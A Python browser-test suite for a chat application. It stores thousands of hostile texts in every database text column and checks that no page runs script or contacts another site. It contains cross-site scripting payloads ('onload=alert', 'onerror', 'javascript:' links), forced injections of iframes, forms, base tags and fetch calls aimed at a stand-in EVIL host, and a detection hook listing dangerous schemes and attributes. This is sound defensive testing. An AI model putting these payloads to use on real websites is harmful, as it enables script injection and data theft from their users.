"""Hostile text in everything that is stored, on every page, in a real browser: none of it runs, nothing is fetched.

The content security policy is switched off here, so that escaping and cleaning have to hold alone; a test at the end
shows that the policy would have stopped what got through. Texts that only look long are as they are stored: fields are
filled past their forms, as an import or a fault would.

PROOFS=long takes every text there is, and each page as two people.
"""

import re
import uuid
from datetime import timedelta

import pytest
from sqlalchemy import JSON, String, update

from chat.accounts.actions import create_invite, create_user, make_token, set_block
from chat.accounts.actions.links import make_link
from chat.accounts.actions.sessions import begin_session
from chat.accounts.models import Identity, Passkey, User
from chat.admin.models import Export, Purge, Report
from chat.admin.moderation.actions import decide_report, report_message, suspend_person
from chat.core.clock import now
from chat.core.db import db
from chat.core.jobs import Job
from chat.core.transaction import transaction
from chat.messages.actions import edit_message, post_message
from chat.messages.models import Message
from chat.rooms.actions import add_member, change_room, create_room, open_as_owner
from chat.rooms.models import Room
from tests.browser.hostile import EVIL, corpus, everything
from tests.conftest import FIGURES
from tests.factories import person
from tests.length import of

TEXTS = corpus(of(400, None))
OBJECTS = 4  # people and rooms that carry all texts between them
PAGE = 50

# Columns that no text of a person's reaches, {reason: them}. Every other column that holds text is planted.
EXCEPTED = {
    "one of a few words of ours": (
        "entries.stream entries.kind jobs.kind jobs.key streams.name site.sign_up site.settings users.role "
        "users.time_zone audit.verb audit.subject_kind blocks.kind invites.role links.purpose memberships.role "
        "reports.decision rooms.kind sessions.kind sessions.scopes provider_flows.provider"
    ),
    "a random value, a hash, or the name of a file, made by us": (
        "site.epoch users.password_hash users.avatar audit.hash exports.blob invites.code links.secret_hash "
        "messages.content_hash recovery_codes.code_hash refresh_tokens.token_hash sessions.token_hash "
        "totps.sealed_secret provider_flows.state_hash provider_flows.browser_hash provider_flows.nonce "
        "provider_flows.verifier"
    ),
    "numbers of people and rooms": "invites.room_ids removed_texts.mentions",
    "bytes in base64url, which only signatures are checked with": "passkeys.credential_id passkeys.public_key",
    "goes to the browser's own dialog as JSON, on no page": "passkeys.transports",
    "goes into a redirect, as a path of ours: tests/accounts/test_return_path.py": "provider_flows.next_path",
    "a code that invites are looked up by, on no page": "provider_flows.invite_code",
    "numbers and moments for handlers, on no page": "jobs.data",
}
# Made by the actions below: some stand beside the HTML made of them, and what was audited nobody can change.
BY_ACTIONS = {
    "messages.text", "messages.html", "messages.key", "edits.text", "edits.html", "removed_texts.text",
    "removed_texts.html", "removed_texts.edits", "audit.data", "audit.address", "entries.data", "links.data",
}  # fmt: skip
# Planted, and yet on no page that the owner can open.
UNSEEN = {
    "messages.html": "the same words as in messages.text",
    "edits.html": "the same words as in edits.text",
    "removed_texts.text": "kept aside until it is put back",
    "removed_texts.html": "kept aside until it is put back",
    "removed_texts.edits": "kept aside until it is put back",
    "identities.issuer": "found by, never shown",
    "identities.subject": "found by, never shown",
    "sessions.user_agent": "only names of browsers that are ours are shown",
}
# Notes what runs, and finds what would run at a click: `ran` and `suspects()`.
HOOK = """
window.ran = []
for (const name of ["alert", "confirm", "prompt", "print"])
  window[name] = () => { window.ran.push(name); console.error("RAN " + name) }
addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
  console.error("POLICY " + violatedDirective + " " + blockedURI))
const LEADS = ["href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset", "background", "ping"]
const SCRIPT = /^[\\s\\x00-\\x1f]*(javascript|vbscript|data|blob|file|about|feed|view-source|livescript|jar)\\s*:/i
const FORBIDDEN = "base, object, embed, iframe, frame, meta[http-equiv=refresh], svg script, math, style"
function isSuspect({ name, value }) {
  if (name.startsWith("on") || name === "srcdoc" || (name === "style" && value.includes("EVIL"))) return true
  if (name === "action" || name === "formaction")  // names of people stand in paths of ours, where they lead nowhere
    return SCRIPT.test(value) || new URL(value, location).origin !== location.origin
  return LEADS.includes(name) && (SCRIPT.test(value) || (name !== "href" && value.includes("EVIL")))
}
window.suspects = () => {
  const attributes = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes])
  const found = attributes.filter(isSuspect).map(({ name, value }) => `${name}=${value.slice(0, 80)}`)
  return found.concat([...document.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML.slice(0, 120)))
}
""".replace("EVIL", EVIL)


PLANTED = "[...new Set(document.documentElement.outerHTML.match(/(?<=planted:)[a-z_]+\\.[a-z_]+/g))]"


@pytest.fixture
def hostile_window(open_window):
    """hostile_window("alice") → a Window whose pages tell what ran, and whose browser goes nowhere else."""

    def hostile_window(username, *, policy=False):
        window = open_window(username, bypass_csp=not policy)
        window.elsewhere = []
        window.context.add_init_script(HOOK)

        def elsewhere(route):
            window.elsewhere.append(route.request.url)
            route.abort()

        window.context.route(re.compile(rf"^(?!{re.escape(window.server.url)}|ws:|blob:)"), elsewhere)
        window.page.on("dialog", lambda dialog: (window.heard.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        return window

    return hostile_window


def assert_harmless(window, place):
    """Nothing ran on this page, nothing can be made to run by a click, and nothing was asked of another site."""
    assert window.page.evaluate("window.ran") == [], place
    assert window.page.evaluate("window.suspects()") == [], place
    assert window.elsewhere == [], place


def pieces(count):
    """The texts in `count` long ones, apart from NUL, which no database takes."""
    size = -(-len(TEXTS) // count)
    return [" ".join(TEXTS[start : start + size]).replace("\0", "") for start in range(0, len(TEXTS), size)]


def test_there_are_nine_thousand_texts_and_no_two_are_the_same():
    every = everything()
    assert len(set(every)) == len(every) >= 9000
    assert len(set(TEXTS)) == len(TEXTS) == of(400, len(every))
    assert set(TEXTS) <= set(every)


def test_no_message_runs_anything(make_room, hostile_window, server):
    room = make_room("alice", "bob")
    stored = 0
    with server.app.app_context(), transaction():
        for text in TEXTS:
            post_message(person("alice"), room.row(), text, key=str(uuid.uuid4()))
            stored += 1
    window = hostile_window("bob")
    shown, pages = set(), 0
    for after in range(0, stored + PAGE, PAGE):
        window.visit(f"{room.path}?after={after}")
        assert_harmless(window, f"{room.path}?after={after}")
        shown |= set(window.find(".timeline [data-id]").evaluate_all("(all) => all.map((one) => one.dataset.id)"))
        pages += 1
    assert stored == len(TEXTS)
    assert len(shown) == stored
    FIGURES.append(f"Hostile messages: {stored} on {pages} pages, 0 ran, 0 requests elsewhere")


# Every other text that is stored, on every page


def text_columns():
    """{"table.column": column} of all that can hold text, from the models: a new one has to be planted or excepted."""
    columns = [column for table in db.metadata.sorted_tables for column in table.columns]
    return {f"{c.table.name}.{c.name}": c for c in columns if isinstance(c.type, (String, JSON))}


def excepted():
    return {name for names in EXCEPTED.values() for name in names.split()}


def planted(name, text):
    """The text, with the column that it is stored in, to be found again on pages."""
    return f"{text} planted:{name}"


def short(number, length=150):
    """Some of the texts, no longer than forms take: what goes through actions that look at the length."""
    fitting = [text for text in TEXTS[len(TEXTS) * number // 31 :] if text.isprintable() and len(text) < length / 3]
    return " ".join(fitting[:3])


class World:
    """People, rooms and whatever else there is, of which every text that is stored is hostile."""

    def __init__(self, app):
        ada, alice, parts = person("ada"), person("alice"), pieces(OBJECTS)
        self.people = [self._make_person(number) for number in range(OBJECTS)]
        self.shut_out = [self._make_person(number) for number in range(OBJECTS, OBJECTS + 3)]
        self.user_ids = [user.id for user in (*self.people, *self.shut_out)]
        self.room_ids, self.message_ids = [], []
        for number, user in enumerate(self.people):
            room = create_room(alice, f"hostile-{number}", kind="public" if number % 2 else "private", topic="x")
            for other in (ada, *self.people, *self.shut_out):
                add_member(alice, room, other)
            change_room(alice, room, name=f"hostile-{number}-again", topic="y", description="z")
            self.room_ids.append(room.id)
            key = planted("messages.key", f'{number}"><svg/onload=alert(1)>').replace(" ", "/")  # 64 characters fit
            said = post_message(alice, room, pieces(200)[number], key=key).id
            edit_message(alice, _message(said), planted("messages.text", pieces(200)[number + OBJECTS]))
            edit_message(alice, _message(said), planted("edits.text", pieces(200)[number + OBJECTS]))
            edit_message(alice, _message(said), planted("messages.text", pieces(200)[number + OBJECTS]))
            self.message_ids.append(said)
            post_message(user, room, "From somebody whose name is hostile", key=f"by-{number}")
        self.invite_ids = [create_invite(ada, expires_days=7, max_uses=5).id for _ in range(OBJECTS)]
        for _ in range(OBJECTS):
            begin_session(alice, address="x", user_agent="x")
            begin_session(ada, address="x", user_agent="x")
        self._own_things(ada)
        self._moderate(ada, alice)
        self._break_glass(ada, alice)
        db.session.commit()
        self.filled = {}
        cast = {person(name).id for name in ("ada", "alice", "bob", "carol", "robot")}
        for name, column in text_columns().items():
            if name not in BY_ACTIONS | excepted():
                with transaction():  # the server may write meanwhile
                    self._fill(name, column, parts, cast)
        self.secrets = {}
        with transaction():  # at last: a new address or password would end them
            for kind, purpose in (("reset", "reset"), ("move", "move"), ("confirm", "email")):
                hostile = self.people[len(self.secrets)]
                data = {"email": planted("links.data", parts[0]), "session": 1}
                self.secrets[kind] = make_link(hostile, purpose, lasts=timedelta(days=1), data=data)[1]

    def _make_person(self, number):
        return create_user(
            name=f"Hostile {number}", username=f"hostile{number}", email=f"hostile{number}@example.org",
            password_hash="x",
        )  # fmt: skip

    def _own_things(self, ada):
        """What somebody has on their own pages: tokens, passkeys, identities, an export, somebody they do not hear."""
        for number in range(2):
            make_token(ada, short(number, 60)[:60], scopes=["read"], days=7)
        set_block(ada, self.people[0], "mute")
        moment, mine = now(), {"user_id": ada.id, "created_at": now()}
        with transaction():
            for number in range(2):
                db.session.add_all(
                    [
                        Passkey(**mine, credential_id=f"hostile{number}", public_key="", name="x"),
                        Identity(**mine, provider="x", issuer="x", subject=f"{number}", email="x", used_at=moment),
                        Job(kind="hostile", error="x", run_at=moment, created_at=moment, attempts=number),
                    ]
                )
            until = moment + timedelta(days=1)
            db.session.add(
                Export(**mine, created_by_id=ada.id, ready_at=moment, expires_at=until, blob="none", size_bytes=1)
            )
            db.session.add(Purge(room_id=self.room_ids[1], before=moment, messages=1, days=1, at=moment))

    def _moderate(self, ada, alice):
        """Reports that wait, reports that were decided in every way, and people shut out."""
        self.report_ids, room = [], db.session.get(Room, self.room_ids[1])
        suspended, banned, _ = self.shut_out
        for number, user in enumerate((*self.shut_out, self.people[0])):
            said = _message(post_message(user, room, planted("messages.text", pieces(200)[number]), key="r").id)
            self.report_ids += [report_message(who, said, short(number)).id for who in (alice, ada)]
        waits = [db.session.get(Report, id) for id in self.report_ids[::2]]
        reason = planted("audit.data", short(1))
        decide_report(ada, waits[0], "suspended", hours=24, reason=reason)
        decide_report(ada, waits[1], "banned", reason=reason, typed=banned.username)
        decide_report(ada, waits[2], "removed")
        suspend_person(ada, suspended, until=now() + timedelta(days=2), reason=reason)

    def _break_glass(self, ada, alice):
        """A private room that the owner came into, with a reason."""
        room = create_room(alice, "hostile-glass", kind="private")
        self.room_ids.append(open_as_owner(ada, room.id, planted("entries.data", short(2))).id)

    def _fill(self, name, column, parts, cast):
        """A different part in each row; people whom tests look up by name keep it."""
        table = column.table
        keys = list(table.primary_key.columns)
        rows = db.session.execute(db.select(*keys).order_by(*keys)).all()
        if table.name == "users":
            rows = [row for row in rows if row[0] not in cast or column.name in ("bio", "title", "pronouns")]
        for number, row in enumerate(rows):
            value = planted(name, parts[number % len(parts)]) + f" {number}"
            if column.name == "username":  # stands in addresses, too, and has to be found again there
                value = planted(name, f"hostile{number}" + parts[number % len(parts)][:200].replace("/", "|"))
            if table.name == "site":
                value = planted(name, " ".join(TEXTS[:: len(TEXTS) // 30]))
            where = [key == part for key, part in zip(keys, row, strict=True)]
            db.session.execute(update(table).where(*where).values({column.name: value}))
            self.filled[name] = number + 1


def _message(id):
    return db.session.get(Message, id)


VALUES = {
    "session_id": 1,
    "code": "none",
    "path": "none.js",
    "hue": 205,
    "event": "read",
    "provider": "none",
    "name": "none.webp",
}


def pages(app, world):
    """Every address that shows something, of each hostile thing that it is about."""
    adapter = app.url_map.bind("localhost")
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.startswith(("static.", "ops.", "api.")):
            continue
        of = {
            "room_id": world.room_ids,
            "message_id": world.message_ids,
            "user_id": world.user_ids,
            "username": [db.session.get(User, id).username for id in world.user_ids],
            "invite_id": world.invite_ids,
            "person_id": world.user_ids,
        }
        if rule.rule.startswith("/reports/"):
            of["id"] = world.report_ids
        about = [of[name] for name in rule.arguments if name in of]
        values = {**VALUES, "secret": world.secrets.get(rule.rule.split("/")[1], "none")}
        for number in range(max(map(len, about), default=1)):
            given = {name: of[name][number % len(of[name])] if name in of else values.get(name, 1)
                     for name in rule.arguments}  # fmt: skip
            yield adapter.build(rule.endpoint, given, "GET")


def test_the_lists_of_columns_name_only_columns_that_are_there_and_each_once():
    named = excepted() | BY_ACTIONS | UNSEEN.keys()
    assert named <= text_columns().keys(), "a column that is gone"
    assert not excepted() & (BY_ACTIONS | UNSEEN.keys())


@pytest.mark.parametrize("who", of(["ada"], ["ada", "alice"]))
def test_no_text_that_is_stored_runs_on_any_page(server, hostile_window, who):
    address = planted("audit.address", "<svg onload=alert(1)>")
    with server.app.test_request_context(environ_base={"REMOTE_ADDR": address}):
        world = World(server.app)
        places = list(pages(server.app, world))
    window = hostile_window(who).expects(r"status of (4\d\d|501)", r"^failed: GET .*(aborted|ERR_)")
    seen, shown = {}, set()
    for path in places:
        answer = window.page.goto(path)
        assert answer.status < 500, path
        assert_harmless(window, path)
        shown |= set(window.page.evaluate(PLANTED))
        seen[answer.status] = seen.get(answer.status, 0) + 1
    room = world.room_ids[0]
    for query in ("/rooms?q=hostile", f"/people?q={TEXTS[0]}", f"/rooms/{room}?around=1", f"/rooms?q={TEXTS[7]}"):
        window.visit(query)
        assert_harmless(window, query)
    assert seen[200] >= 30
    to_plant = text_columns().keys() - excepted()
    assert to_plant <= world.filled.keys() | BY_ACTIONS, "plant a new column, or say in EXCEPTED why no text gets there"
    if who == "ada":
        assert to_plant - shown == UNSEEN.keys()
    FIGURES.append(
        f"Hostile fields: {len(TEXTS)} texts in each of {len(world.filled)} columns, and some in {len(BY_ACTIONS)}, "
        f"on {sum(seen.values())} pages "
        f"as {who} (answers {seen}), 0 ran, 0 requests elsewhere: {', '.join(sorted(world.filled))}"
    )


def test_what_arrives_while_one_looks_runs_nothing(server, make_room, hostile_window):
    """Posted, edited, renamed and typed while the room is on screen: the page's own script puts it in."""
    room = make_room("alice", "bob")
    window = hostile_window("bob")
    window.visit(room).live()
    parts = pieces(of(30, 100))
    for part in parts:
        [id] = room.say("alice", part[:19_000])
    room.act(
        change_room, "alice", name=f"changed-{room.id}", topic=" ".join(TEXTS[:: len(TEXTS) // 8])[:200], description=""
    )
    with server.app.app_context():
        edit_message(person("alice"), db.session.get(Message, id), "Over. " + parts[0][:15_000])
    window.find(".message__body", has_text="Over.").last.wait_for()
    window.say("Mine <img src=x onerror=alert(1)>")
    window.find(".message__body", has_text="Mine").last.wait_for()
    assert_harmless(window, "live")


def test_the_policy_would_stop_what_got_through(hostile_window, make_room):
    """The second line: with the policy on, what is planted into the page by force does not run and fetches nothing."""
    room = make_room("alice", "bob")
    window = hostile_window("bob", policy=True)
    window.expects(
        r"POLICY|Content Security Policy|csp|violates|Refused", r"status of 404"
    )  # the picture is asked for here
    window.visit(room).live()
    window.page.evaluate(
        """(evil) => {
          const at = document.querySelector("main") ?? document.body
          for (const html of [
            `<img src=x onerror=alert(1)>`,
            `<a id=planted href="javascript:alert(2)">x</a>`,
            `<img src=//${evil}/i>`,
            `<style>body { background: url(//${evil}/s) }</style>`,
            `<iframe src=//${evil}/f></iframe>`,
            `<form id=sent action=//${evil}/post method=post></form>`,
            `<base href=//${evil}/>`,
          ])
            at.insertAdjacentHTML("beforeend", html)
          for (const [name, value] of [["text", "alert(3)"], ["src", `//${evil}/s.js`]]) {
            const script = document.createElement("script")
            script[name] = value
            at.append(script)
          }
          document.getElementById("planted").click()
          document.getElementById("sent").submit()
          fetch(`//${evil}/x`).catch(() => {})
        }""",
        EVIL,
    )
    window.until(lambda: sum("POLICY" in words for words in window.heard) >= 6, "the policy to speak up")
    assert window.page.evaluate("window.ran") == []
    assert window.elsewhere == []
    assert window.page.url.startswith(window.server.url)
